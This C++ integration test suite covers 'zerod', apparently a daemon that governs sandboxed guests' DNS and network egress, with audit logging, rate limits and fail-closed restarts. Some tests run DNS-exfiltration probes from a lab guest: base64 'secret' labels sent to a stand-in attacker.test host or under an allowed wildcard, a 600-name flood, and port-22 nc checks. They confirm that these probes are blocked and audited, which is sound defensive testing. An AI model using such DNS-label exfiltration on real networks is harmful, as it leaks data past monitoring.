// zerod as a process in the lab: sessions over the control socket, governed
// DNS from a real guest, policy updates under load, kill -9 and re-adoption,
// and an audit trail that verifies and holds no secret.
#include <net/if.h>

#include <map>
#include <set>

#include "common/netns.h"
#include "integration/zerod_fixture.h"
#include "support/skip_policy.h"
#include "userspace/datapath/tc_attachment.h"

namespace zn::test {
namespace {

TEST_F(ZerodTest, CreatedSessionGetsGovernedDnsAndAnAuditTrail) {
  create_session();
  json r = call("session.show", {{"id", "user-1"}});
  ASSERT_TRUE(r["ok"]);
  EXPECT_EQ(r["result"]["network"]["address"], "198.19.0.2/24");
  EXPECT_EQ(r["result"]["network"]["gateway"], "198.19.0.1");
  const std::string ca = r["result"]["network"]["ca_certificate"];
  EXPECT_TRUE(fs::exists(ca)) << ca;
  EXPECT_NE(slurp(ca).find("BEGIN CERTIFICATE"), std::string::npos);
  EXPECT_EQ(r["result"]["policy"]["resources"], json::array({"stripe"}));
  EXPECT_EQ(r.dump().find(kSecret), std::string::npos);

  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
  EXPECT_EQ(dig("registry.npmjs.org"), "198.18.0.12\n");
  // Denied and unknown names: NXDOMAIN, and nothing leaves through labels.
  EXPECT_NE(guest("dig @8.8.8.8 evil.example +tries=1 +time=2").output.find("NXDOMAIN"), std::string::npos);
  EXPECT_NE(guest("dig @1.1.1.1 c2VjcmV0.exfil.attacker.test +tries=1 +time=2").output.find("NXDOMAIN"),
            std::string::npos);
  EXPECT_NE(guest("nc -z -w 1 198.18.0.10 22").exit_code, 0);
  std::this_thread::sleep_for(1500ms);  // packet:deny is flushed once a second

  stop_zerod(SIGTERM);
  const std::string db = (dir_ / "state" / "audit.db").string();
  auto v = broker::AuditLog::verify_file(db);
  EXPECT_TRUE(v.ok) << v.reason;
  broker::AuditLog log({db, {}, [](const std::string&) {}});
  std::string events;
  for (const auto& rec : log.query({})) events += rec.event + " " + rec.sid + " " + rec.detail.dump() + "\n";
  EXPECT_NE(events.find("session:create user-1"), std::string::npos) << events;
  EXPECT_NE(events.find("dns:allow user-1 {\"answers\":[\"198.18.0.10\"],\"name\":\"api.github.com\""),
            std::string::npos)
      << events;
  EXPECT_NE(events.find("dns:deny user-1 {\"name\":\"evil.example\""), std::string::npos) << events;
  EXPECT_NE(events.find("c2vjcmv0.exfil.attacker.test"), std::string::npos)
      << events;  // names are case-folded
  EXPECT_NE(events.find("packet:deny user-1"), std::string::npos) << events;
  // No secret anywhere: audit database files, state is 0600, log.
  for (const auto& e : fs::directory_iterator(dir_ / "state"))
    if (e.path().filename().string().rfind("audit", 0) == 0) {
      EXPECT_EQ(slurp(e.path()).find(kSecret), std::string::npos) << e.path();
    }
  EXPECT_EQ(slurp(dir_ / "zerod.log").find(kSecret), std::string::npos);
  EXPECT_EQ(fs::status(dir_ / "state" / "sessions.json").permissions() & fs::perms::all,
            fs::perms::owner_read | fs::perms::owner_write);
}

TEST_F(ZerodTest, BadRequestsAreRefusedAndChangeNothing) {
  create_session();
  json bad =
      call("session.update", {{"id", "user-1"}, {"policy", R"({"policy":{"allow":[{"host":"*.com"}]}})"}});
  EXPECT_FALSE(bad["ok"]);
  EXPECT_EQ(bad["error"]["path"], "$.policy.allow[0].host");
  EXPECT_EQ(call("session.show", {{"id", "user-1"}})["result"]["policy_version"], 1);
  EXPECT_FALSE(call("session.create", {{"id", "user-1"}, {"policy", policy()}})["ok"]);
  EXPECT_FALSE(call("session.create", {{"id", "Bad Id"}, {"policy", policy()}})["ok"]);
  EXPECT_FALSE(call("session.delete", {{"id", "nobody"}})["ok"]);
  EXPECT_FALSE(call("no.such.verb")["ok"]);
  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
}

// A deleted session's rate bucket goes with it: a session re-created under
// the same id starts with a full burst, not the old one's empty bucket.
// Every request to port 80 takes a token before its verdict, so 403 (default
// deny) means a token was there and 429 means none was.
TEST_F(ZerodTest, ARecreatedSessionDoesNotInheritTheDeletedOnesRateBucket) {
  const std::string rated =
      R"({"policy":{"allow":[{"host":"api.github.com"}],"rate":{"burst":5,"per_second":1}}})";
  const json spec = {{"id", "user-1"}, {"policy", rated}, {"device", "zn-tap0"}, {"slot", 0}};
  // Six requests in one curl (one connection each: a refusal closes it).
  const std::string six =
      "for i in 1 2 3 4 5 6; do curl -s -m 3 -o /dev/null -w '%{http_code} ' "
      "-H 'Host: evil.example' http://198.18.0.13/; done";
  ASSERT_TRUE(call("session.create", spec)["ok"]);
  const std::string first = guest(six).output;
  // Positive control: the bucket empties (the limit is really in force).
  EXPECT_EQ(first.substr(first.size() - 4), "429 ") << first;
  ASSERT_TRUE(call("session.delete", {{"id", "user-1"}})["ok"]);
  ASSERT_TRUE(call("session.create", spec)["ok"]);
  // Four quick requests: an inherited bucket has refilled at most a token
  // or two by now; a fresh one holds five.
  const std::string again = guest(
                                "for i in 1 2 3 4; do curl -s -m 3 -o /dev/null -w '%{http_code} ' "
                                "-H 'Host: evil.example' http://198.18.0.13/; done")
                                .output;
  EXPECT_EQ(again, "403 403 403 403 ") << again;
}

// Issue 32: a session deleted and created again under the same id, again
// and again, while its guest's DNS queries and connections are in flight
// (a query at the resolver holds the deleted session's snapshot; the proxy's
// decisions run on its workers). Under ThreadSanitizer (scripts/
// tsan_suites.sh) a race between the delete and that work is a failure; here,
// every change answers, zerod lives on, and the last session works (the
// control) with nothing of its predecessors: no answer it was not told.
TEST_F(ZerodTest, DeletesAndRecreatesRaceNothingTheGuestIsDoing) {
  const json spec = {{"id", "user-1"}, {"policy", policy()}, {"device", "zn-tap0"}, {"slot", 0}};
  ASSERT_TRUE(call("session.create", spec)["ok"]);
  auto load = std::async(std::launch::async, [this] {
    return guest(
        "for i in $(seq 1 60); do dig @8.8.8.8 api.github.com +short +tries=1 +time=1 > /dev/null; "
        "dig @8.8.8.8 +tcp registry.npmjs.org +short +tries=1 +time=1 > /dev/null; "
        "curl -s -m 1 -o /dev/null http://api.github.com/ & done; wait");
  });
  for (int i = 0; i < 12; ++i) {
    std::this_thread::sleep_for(100ms);
    json d = call("session.delete", {{"id", "user-1"}});
    ASSERT_TRUE(d["ok"]) << i << ": " << d.dump();
    json c = call("session.create", spec);
    ASSERT_TRUE(c["ok"]) << i << ": " << c.dump();
  }
  load.get();
  ASSERT_EQ(::waitpid(pid_, nullptr, WNOHANG), 0) << "zerod exited";
  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
  json show = call("session.show", {{"id", "user-1"}});
  ASSERT_TRUE(show["ok"]);
  EXPECT_EQ(show["result"]["policy_version"], 1);  // a new session, not an update
}

TEST_F(ZerodTest, PolicyUpdateAppliesAtOnceWhileTheGuestLoops) {
  create_session();
  // The guest resolves in a loop while the policy changes under it.
  auto loop = std::async(std::launch::async, [this] {
    return guest(
        "for i in $(seq 1 30); do dig @8.8.8.8 api.github.com +short +tries=1 +time=1; "
        "dig @8.8.8.8 api.openai.com +short +tries=1 +time=1 | sed 's/^/openai:/'; sleep 0.05; done");
  });
  std::this_thread::sleep_for(600ms);
  json r = call("session.update", {{"id", "user-1"}, {"policy", policy(R"({"host":"api.openai.com"},)")}});
  ASSERT_TRUE(r["ok"]) << r.dump();
  EXPECT_EQ(r["result"]["policy_version"], 2);
  EXPECT_EQ(dig("api.openai.com"), "198.18.0.10\n");  // at once
  const std::string out = loop.get().output;
  // The name allowed in both versions never failed.
  size_t github = 0;
  for (size_t p = out.find("198.18.0.10"); p != std::string::npos; p = out.find("198.18.0.10", p + 1))
    ++github;
  size_t openai = 0;
  for (size_t p = out.find("openai:198.18.0.10"); p != std::string::npos;
       p = out.find("openai:198.18.0.10", p + 1))
    ++openai;
  EXPECT_EQ(github - openai, 30u) << out;
  EXPECT_GT(openai, 0u) << out;
  EXPECT_LT(openai, 30u) << out;
}

TEST_F(ZerodTest, KilledZerodFailsClosedAndARestartReadoptsTheSession) {
  create_session();
  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
  stop_zerod(SIGKILL);
  // Nothing gets out: DNS unanswered, steered TCP finds no listener, the rest is dropped.
  EXPECT_EQ(dig("api.github.com").find("198.18.0.10"), std::string::npos);
  EXPECT_NE(guest("curl -s -m 2 http://198.18.0.10/").exit_code, 0);
  EXPECT_NE(guest("nc -z -w 1 198.18.0.10 22").exit_code, 0);
  EXPECT_NE(guest("ping -c 1 -W 1 198.18.0.10").exit_code, 0);
  start_zerod();
  json list = call("session.list");
  ASSERT_TRUE(list["ok"]);
  ASSERT_EQ(list["result"].size(), 1u);
  EXPECT_EQ(list["result"][0]["id"], "user-1");
  EXPECT_EQ(list["result"][0]["device"], "zn-tap0");
  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
  json del = call("session.delete", {{"id", "user-1"}});
  EXPECT_TRUE(del["ok"]);
  // No session: the TAP denies everything, DNS included.
  EXPECT_EQ(dig("api.github.com").find("198.18.0.10"), std::string::npos);
}

TEST_F(ZerodTest, ControlSocketRefusesNonRoot) {
  create_session();
  EXPECT_EQ(fs::status(socket_).permissions() & fs::perms::all,
            fs::perms::owner_read | fs::perms::owner_write);
  pid_t child = ::fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    if (::setgid(65534) != 0 || ::setuid(65534) != 0) ::_exit(2);
    try {
      json r = broker::control_call(socket_, "session.delete", {{"id", "user-1"}});
      ::_exit(r.value("ok", false) ? 1 : 0);
    } catch (...) {
      ::_exit(0);  // refused at connect: the socket is root's, mode 0600
    }
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
  EXPECT_TRUE(call("session.show", {{"id", "user-1"}})["ok"]);
}

TEST_F(ZerodTest, PrometheusMetricsOnLocalhost) {
  create_session();
  dig("api.github.com");
  dig("evil.example");
  auto r = run_in_netns(lab_->host_netns(), "curl -s -m 3 http://127.0.0.1:19464/metrics");
  EXPECT_NE(r.output.find("zn_sessions 1\n"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("zn_datapath_packets_total{session=\"user-1\",verdict=\"pass:dns\"}"),
            std::string::npos)
      << r.output;
  EXPECT_NE(r.output.find("zn_dns_queries_total{result=\"denied\"} 1"), std::string::npos) << r.output;
  // The audit's own health: committing (session:create at least), not failing.
  EXPECT_NE(r.output.find("zn_audit_failing 0\n"), std::string::npos) << r.output;
  EXPECT_EQ(r.output.find("zn_audit_records_total{result=\"committed\"} 0\n"), std::string::npos) << r.output;
  // The session's one resource value, redacted from its records until it is
  // deleted, then forgotten.
  EXPECT_NE(r.output.find("zn_audit_secrets_held 1\n"), std::string::npos) << r.output;
  ASSERT_TRUE(call("session.delete", {{"id", "user-1"}})["ok"]);
  r = run_in_netns(lab_->host_netns(), "curl -s -m 3 http://127.0.0.1:19464/metrics");
  EXPECT_NE(r.output.find("zn_audit_secrets_held 0\n"), std::string::npos) << r.output;
  auto other =
      run_in_netns(lab_->host_netns(), "curl -s -o /dev/null -w '%{http_code}' -m 3 http://127.0.0.1:19464/");
  EXPECT_EQ(other.output, "404");
}

TEST_F(ZerodTest, ZnctlEventsStreamsLiveDrops) {
  create_session();
  const std::string cmd = "timeout 4 " + std::string(ZN_ZNCTL_BIN) + " -j --socket " + socket_ + " events";
  auto watcher = std::async(std::launch::async, [cmd] {
    std::string out;
    FILE* p = ::popen(cmd.c_str(), "r");
    char buf[4096];
    size_t n;
    while ((n = std::fread(buf, 1, sizeof buf, p)) > 0) out.append(buf, n);
    ::pclose(p);
    return out;
  });
  std::this_thread::sleep_for(1s);
  guest("nc -z -w 1 198.18.0.11 2222");
  const std::string out = watcher.get();
  EXPECT_NE(out.find("\"reason\":\"drop:tcp_port\""), std::string::npos) << out;
  EXPECT_NE(out.find("198.18.0.11:2222"), std::string::npos) << out;
  EXPECT_NE(out.find("\"session\":\"user-1\""), std::string::npos) << out;
}

TEST_F(ZerodTest, ZnctlSpeaksJsonIncludingErrors) {
  create_session();
  const std::string znctl = std::string(ZN_ZNCTL_BIN) + " -j --socket " + socket_ + " --state-dir " +
                            (dir_ / "state").string() + " --pin-root " + lab::lab_pin_root(lab_->prefix());
  auto run = [](const std::string& cmd) {
    CommandResult r;
    FILE* p = ::popen((cmd + " 2>/dev/null").c_str(), "r");
    char buf[4096];
    size_t n;
    while ((n = std::fread(buf, 1, sizeof buf, p)) > 0) r.output.append(buf, n);
    int status = ::pclose(p);
    r.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
    return r;
  };
  auto list = run(znctl + " session list");
  EXPECT_EQ(list.exit_code, 0);
  EXPECT_EQ(json::parse(list.output)[0]["id"], "user-1");
  auto missing = run(znctl + " session show nobody");
  EXPECT_EQ(missing.exit_code, 1);
  EXPECT_EQ(json::parse(missing.output)["error"], "no session 'nobody'");
  std::ofstream(dir_ / "bad.json") << R"({"policy":{"allow":[{"host":"a.example","methods":["FETCH"]}]}})";
  auto check = run(znctl + " policy check " + (dir_ / "bad.json").string());
  EXPECT_EQ(check.exit_code, 1);
  EXPECT_EQ(json::parse(check.output)["path"], "$.policy.allow[0].methods[0]");
  // zerod's refusal of the same policy keeps its path too.
  auto update = run(znctl + " session update user-1 --policy " + (dir_ / "bad.json").string());
  EXPECT_EQ(update.exit_code, 1);
  EXPECT_EQ(json::parse(update.output)["path"], "$.policy.allow[0].methods[0]") << update.output;
  EXPECT_EQ(json::parse(update.output)["error"].get<std::string>().rfind("$.policy.allow[0].methods[0]: ", 0),
            0u)
      << update.output;
  auto usage = run(znctl + " session frobnicate");
  EXPECT_EQ(usage.exit_code, 2);
  EXPECT_TRUE(json::parse(usage.output).contains("error"));
  auto progs = run(znctl + " prog show");
  EXPECT_EQ(json::parse(progs.output).size(), 2u);
  // Maps only: the pinned programs beside them are not listed as maps.
  auto maps = run(znctl + " map list");
  ASSERT_EQ(maps.exit_code, 0);
  std::set<std::string> names;
  for (const auto& m : json::parse(maps.output)) {
    names.insert(m["name"].get<std::string>());
    EXPECT_EQ(m["pinned"].get<std::string>().find("tap_"), std::string::npos) << m.dump();
  }
  EXPECT_TRUE(names.count("zn_sessions")) << maps.output;
  EXPECT_TRUE(names.count("zn_l4_allow")) << maps.output;
  EXPECT_FALSE(names.count("zn_tap_ingress")) << maps.output;
  for (const auto& m : json::parse(maps.output))
    if (m["name"] == "zn_sessions") {
      EXPECT_EQ(m["key_bytes"], 4);  // ifindex
      EXPECT_GT(m["value_bytes"], 4);
    }
  auto stats = run(znctl + " stats user-1");
  EXPECT_TRUE(json::parse(stats.output).contains("user-1"));
  auto sessions = run(znctl + " map dump zn_sessions");
  ASSERT_EQ(json::parse(sessions.output).size(), 1u);
  EXPECT_EQ(json::parse(sessions.output)[0]["guest_ip4"], "198.19.0.2");
  EXPECT_EQ(json::parse(sessions.output)[0]["steered_ports"], json::array({80, 443}));
  auto l4 = run(znctl + " map dump zn_l4_allow");
  EXPECT_EQ(json::parse(l4.output)[0]["prefix"], "198.18.0.13/32");  // db.internal:5432
  EXPECT_EQ(json::parse(l4.output)[0]["port"], 5432);
  auto verify = run(znctl + " audit verify");
  EXPECT_EQ(verify.exit_code, 0);
  EXPECT_TRUE(json::parse(verify.output)["ok"]);
}

// Deleting a session on an adopted device never leaves it open: the device
// is parked (programs attached, no entry) and denies everything, until it is
// adopted again; only `znctl session delete --detach yes` hands it back.
// The gateway answers ping from an ungoverned device, never through the
// datapath: the probe that tells parked from detached.
TEST_F(ZerodTest, DeletingAnAdoptedSessionKeepsItsDeviceDenying) {
  const std::string znctl = std::string(ZN_ZNCTL_BIN) + " --socket " + socket_;
  auto attached = [&] {
    NetnsScope in_host(lab_->host_netns());
    return dp::TcAttachment::is_attached(static_cast<int>(if_nametoindex("zn-tap0")));
  };
  auto gateway_answers = [&] { return guest("ping -c 1 -W 1 198.19.0.1").exit_code == 0; };
  auto parked = [&] { return run_in_netns(lab_->host_netns(), znctl + " session parked").output; };
  create_session();
  EXPECT_EQ(parked(), "");  // a session's device is not parked
  // Positive control: governed DNS answers while the session lives; the
  // datapath (not the lack of a route) is what drops the ping.
  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
  EXPECT_FALSE(gateway_answers());
  ASSERT_EQ(run_in_netns(lab_->host_netns(), znctl + " session delete user-1").exit_code, 0);
  EXPECT_TRUE(attached());
  EXPECT_EQ(dig("api.github.com").find("198.18.0.10"), std::string::npos);
  EXPECT_FALSE(gateway_answers());
  EXPECT_NE(parked().find("zn-tap0 "), std::string::npos) << parked();
  // A restart of zerod changes nothing: still parked, and listed so.
  stop_zerod(SIGTERM);
  start_zerod();
  EXPECT_TRUE(attached());
  EXPECT_FALSE(gateway_answers());
  const json listed = json::parse(run_in_netns(lab_->host_netns(), znctl + " -j session parked").output);
  ASSERT_EQ(listed.size(), 1u) << listed;
  EXPECT_EQ(listed[0]["device"], "zn-tap0");
  // Adopted again: governed again.
  create_session();
  EXPECT_EQ(parked(), "");
  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
  // A bad --detach value is a usage error that deletes nothing.
  EXPECT_EQ(run_in_netns(lab_->host_netns(), znctl + " session delete user-1 --detach maybe").exit_code, 2);
  ASSERT_TRUE(call("session.show", {{"id", "user-1"}})["ok"]);
  EXPECT_FALSE(call("session.delete", {{"id", "user-1"}, {"detach", "yes"}})["ok"]);  // a boolean
  ASSERT_TRUE(call("session.show", {{"id", "user-1"}})["ok"]);
  // The explicit choice: detached, the device is ungoverned (the gateway
  // answers its ping).
  ASSERT_EQ(run_in_netns(lab_->host_netns(), znctl + " session delete user-1 --detach yes").exit_code, 0);
  EXPECT_FALSE(attached());
  EXPECT_TRUE(gateway_answers());
  EXPECT_EQ(parked(), "");  // detached: ungoverned, not parked
  stop_zerod(SIGTERM);
  const std::string db = (dir_ / "state" / "audit.db").string();
  broker::AuditLog log({db, {}, [](const std::string&) {}});
  std::vector<std::string> states;
  for (const auto& rec : log.query({}))
    if (rec.event == "session:delete") states.push_back(rec.detail.value("device_state", ""));
  EXPECT_EQ(states, (std::vector<std::string>{"parked", "detached"}));
}

// "tc_attach": "tcx": the session's device is governed through TCX (no
// qdisc, no filter); a restart configured with clsact takes the device over
// and leaves no TCX program behind, the device denying throughout.
class ZerodTcxTest : public ZerodTest {
 protected:
  void SetUp() override {
    if (!dp::TcAttachment::tcx_supported()) GTEST_SKIP() << ZN_KERNEL_LACKS("TCX") << "tc_attach \"tcx\"";
    ZerodTest::SetUp();
  }
  void configure(json& config) override { config["tc_attach"] = "tcx"; }
};

TEST_F(ZerodTcxTest, GovernsThroughTcxAndARestartWithClsactTakesOver) {
  auto attached = [&] {
    NetnsScope in_host(lab_->host_netns());
    return dp::TcAttachment::is_attached(static_cast<int>(if_nametoindex("zn-tap0")));
  };
  auto tc = [&](const std::string& what) {
    return run_in_netns(lab_->host_netns(),
                        "tc " + what + " dev zn-tap0" + (what == "qdisc show" ? "" : " ingress"))
        .output;
  };
  auto gateway_answers = [&] { return guest("ping -c 1 -W 1 198.19.0.1").exit_code == 0; };
  create_session();
  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");  // the control: steered and answered
  EXPECT_FALSE(gateway_answers());
  EXPECT_TRUE(attached());
  EXPECT_EQ(tc("qdisc show").find("clsact"), std::string::npos);
  EXPECT_EQ(tc("filter show").find("zn_tap_ingress"), std::string::npos);

  stop_zerod(SIGTERM);
  json config = json::parse(slurp(dir_ / "zerod.json"));
  config["tc_attach"] = "clsact";
  std::ofstream(dir_ / "zerod.json") << config.dump();
  start_zerod();
  EXPECT_NE(tc("filter show").find("zn_tap_ingress"), std::string::npos) << tc("filter show");
  {
    NetnsScope in_host(lab_->host_netns());
    // Nothing of the TCX start is left: only the filters remain ours.
    EXPECT_FALSE(dp::TcAttachment::remove_other_backend(static_cast<int>(if_nametoindex("zn-tap0"))));
  }
  EXPECT_TRUE(attached());
  EXPECT_EQ(dig("api.github.com"), "198.18.0.10\n");
  EXPECT_FALSE(gateway_answers());
}

// dns_tcp_per_session from zerod's config: a guest's TCP connections to
// the DNS responder past its share are closed at once; those within it
// answer (the control).
class ZerodDnsTcpShareTest : public ZerodTest {
 protected:
  void configure(json& config) override { config["dns_tcp_per_session"] = 2; }
};

TEST_F(ZerodDnsTcpShareTest, ConnectionsPastTheShareAreClosed) {
  create_session();
  std::ofstream(dir_ / "tcp53.py") << R"py(
import socket, struct
def ask(s):
    name = b"".join(bytes([len(l)]) + l for l in b"api.github.com".split(b".")) + b"\0"
    m = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
    try:
        s.sendall(struct.pack("!H", len(m)) + m)
        return "answered" if len(s.recv(2)) == 2 else "closed"
    except socket.timeout:
        return "timeout"
    except OSError:
        return "closed"
socks = [socket.create_connection(("198.19.0.1", 53), timeout=3) for _ in range(3)]
print(" ".join(ask(s) for s in socks))
)py";
  EXPECT_EQ(guest("python3 " + (dir_ / "tcp53.py").string()).output, "answered answered closed\n");
}

// Allowed names that get no address are audited (dns:unanswered), bounded
// per second like packet:deny: a guest spelling data into the labels of an
// allowed wildcard leaves a trace, and a flood of such names a bounded one.
class ZerodDnsAuditTest : public ZerodTest {
 protected:
  static constexpr int kRate = 4;
  void configure(json& config) override { config["dns_unanswered_rate"] = kRate; }
};

TEST_F(ZerodDnsAuditTest, UnansweredNamesAreAuditedAndAFloodStaysBounded) {
  create_session();
  // Positive control: an answered name is dns:allow, not dns:unanswered.
  EXPECT_EQ(dig("registry.npmjs.org"), "198.18.0.12\n");
  // One name carrying data under the allowed wildcard: NXDOMAIN, audited.
  EXPECT_NE(guest("dig @8.8.8.8 c2VjcmV0LWRhdGE.npmjs.org +tries=1 +time=2").output.find("NXDOMAIN"),
            std::string::npos);
  // No AAAA for a name with an A only, and a TXT query (never forwarded).
  guest("dig @8.8.8.8 api.github.com AAAA +tries=1 +time=2");
  guest("dig @8.8.8.8 dGV4dA.npmjs.org TXT +tries=1 +time=2");
  std::this_thread::sleep_for(1500ms);  // dns:unanswered is flushed once a second
  // The flood: 600 random names in one dig process (-f: one query a line).
  constexpr int kFlood = 600;
  {
    std::ofstream q(dir_ / "flood.txt");
    for (int i = 0; i < kFlood; ++i)
      q << "@8.8.8.8 x" << i << "r" << (i * 7919 % 10007) << (i % 3 ? ".a.npmjs.org" : ".npmjs.org")
        << " +tries=1 +time=1\n";
  }
  const auto start = std::chrono::steady_clock::now();
  const std::string out =
      guest("dig @8.8.8.8 -f " + (dir_ / "flood.txt").string() + " | grep -c NXDOMAIN").output;
  const auto seconds =
      std::chrono::duration_cast<std::chrono::seconds>(std::chrono::steady_clock::now() - start).count();
  EXPECT_EQ(out, std::to_string(kFlood) + "\n");
  stop_zerod(SIGTERM);  // flushes what the last second gathered

  broker::AuditLog log({(dir_ / "state" / "audit.db").string(), {}, [](const std::string&) {}});
  uint64_t flood_count = 0;
  size_t flood_records = 0;
  std::map<std::string, json> singles;
  for (const auto& rec : log.query({})) {
    if (rec.event == "dns:allow") {
      EXPECT_NE(rec.detail.value("name", ""), "c2vjcmv0lwrhdge.npmjs.org");
    }
    if (rec.event != "dns:unanswered") continue;
    EXPECT_EQ(rec.sid, "user-1");
    const std::string name = rec.detail.value("name", "");
    if (name.rfind("x", 0) == 0 || !rec.detail.contains("name")) {
      flood_count += rec.detail.at("count").get<uint64_t>();
      ++flood_records;
    } else {
      singles[name + " " + rec.detail.at("outcome").get<std::string>()] = rec.detail;
    }
  }
  ASSERT_TRUE(singles.count("c2vjcmv0lwrhdge.npmjs.org nxdomain")) << json(singles).dump();
  EXPECT_EQ(singles["c2vjcmv0lwrhdge.npmjs.org nxdomain"]["forwarded"], true);
  ASSERT_TRUE(singles.count("api.github.com nodata")) << json(singles).dump();
  ASSERT_TRUE(singles.count("dgv4da.npmjs.org nodata")) << json(singles).dump();
  EXPECT_EQ(singles["dgv4da.npmjs.org nodata"]["forwarded"], false);
  EXPECT_FALSE(singles.count("registry.npmjs.org nodata"));
  // Every query of the flood is counted, in few records: at most 2 x rate
  // + 1 per second the flood lasted (and the second it started in).
  EXPECT_EQ(flood_count, static_cast<uint64_t>(kFlood));
  EXPECT_LE(flood_records, static_cast<size_t>((2 * kRate + 1) * (seconds + 2))) << seconds << " s";
  EXPECT_LT(flood_records, static_cast<size_t>(kFlood / 4));
}

}  // namespace
}  // namespace zn::test
